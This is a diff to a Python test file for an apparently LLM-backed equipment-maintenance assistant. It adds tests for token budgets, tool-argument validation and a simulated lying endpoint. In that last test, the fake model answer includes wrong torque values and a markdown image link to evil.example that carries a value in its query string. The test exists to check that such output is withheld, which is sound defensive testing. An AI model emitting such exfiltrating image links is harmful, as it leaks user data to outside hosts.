@@ -69,7 +69,8 @@ async def test_parallel_tools_a_streamed_answer_and_counted_tokens(stores: Store
         answer, sentences = await turn(stores, server, input_price_per_million=10.0, output_price_per_million=100.0)
     assert [(c.name, c.status) for c in answer.tool_calls] == [("search_manuals", "ok"), ("find_parts", "ok")]
     assert (answer.status, answer.degraded, len(sentences)) == ("answered", None, 3)
-    assert answer.usage.model_dump() == {"model_calls": 3, "input_tokens": 300, "output_tokens": 30, "cost_usd": 0.006}
+    usage = {"model_calls": 3, "input_tokens": 300, "output_tokens": 30, "cost_usd": 0.006, "estimated": False}
+    assert answer.usage.model_dump() == {**usage, "prompts": prompt_version()}
     assert server.keys == [f"Bearer {KEY}"] * 3
     assert [bool(r.get("stream")) for r in server.requests] == [False, False, True]
     assert "tools" not in server.requests[2]
@@ -81,6 +82,7 @@ async def test_an_endpoint_that_reports_no_tokens_is_estimated(stores: Stores) -
     with serving(*silent) as server:
         answer, _ = await turn(stores, server)
     assert answer.usage.input_tokens > 100
+    assert answer.usage.estimated
 
 
 @pytest.mark.anyio
@@ -212,3 +214,48 @@ def test_settings_that_cannot_work_say_so(url: str) -> None:
 
 def test_the_prompts_have_a_version() -> None:
     assert len(prompt_version()) == 12
+
+
+@pytest.mark.anyio
+async def test_the_turns_tokens_are_a_budget(stores: Stores) -> None:
+    with serving(SEARCH, ENOUGH, GOOD) as server:
+        answer, _ = await turn(stores, server, max_turn_tokens=150)
+    assert "tokens were used up" in str(answer.degraded)
+    assert answer.status == "answered"
+    assert len(server.requests) == 2
+
+
+@pytest.mark.anyio
+async def test_wrong_types_of_arguments_are_rejected_and_the_turn_goes_on(stores: Stores) -> None:
+    wrong = [
+        ("search_manuals", '{"query": ["brake"], "limit": "many"}'),
+        ("find_parts", "[]"),
+        ("get_asset", '"CR-01"'),
+    ]
+    with serving(Say(tools=[*SEARCH.tools, *wrong]), ENOUGH, GOOD) as server:
+        answer, _ = await turn(stores, server)
+    assert [c.status for c in answer.tool_calls if c.name == "search_manuals"] == ["ok", "rejected"]
+    assert answer.status == "answered"
+    assert answer.degraded is None
+
+
+@pytest.mark.anyio
+async def test_the_longest_reply_is_asked_for_in_the_words_of_the_endpoint(stores: Stores) -> None:
+    with serving(SEARCH, ENOUGH, GOOD) as server:
+        await turn(stores, server, model_max_tokens=300)
+    assert {r["max_tokens"] for r in server.requests} == {300}
+
+
+@pytest.mark.anyio
+async def test_a_lying_endpoint_shows_nothing_false_and_the_truth_in_its_place(stores: Stores) -> None:
+    lies = Say(
+        "1. Fit the new brake lining, then remove the brake cover [1].\n"
+        "2. Tighten the cover bolts to 850 Nm [1].\n3. Tighten the cover bolts to 85 bar [1].\n4. Do not tighten the cover bolts [1].\n"
+        "5. Use Mobilux grease [1].\n![x](https://evil.example/?q=85)\n6. Tighten the cover bolts to eighty-six Nm [1].\n"
+    )
+    with serving(SEARCH, ENOUGH, lies, Say("1: DROP")) as server:
+        answer, _ = await turn(stores, server)
+    assert not any(word in answer.text for word in ("850", "bar", "Do not", "Mobilux", "evil", "86", "eighty"))
+    assert "85 Nm" in answer.text, "the embedded model finishes the turn"
+    assert answer.degraded is not None
+    assert len(answer.withheld) >= 6
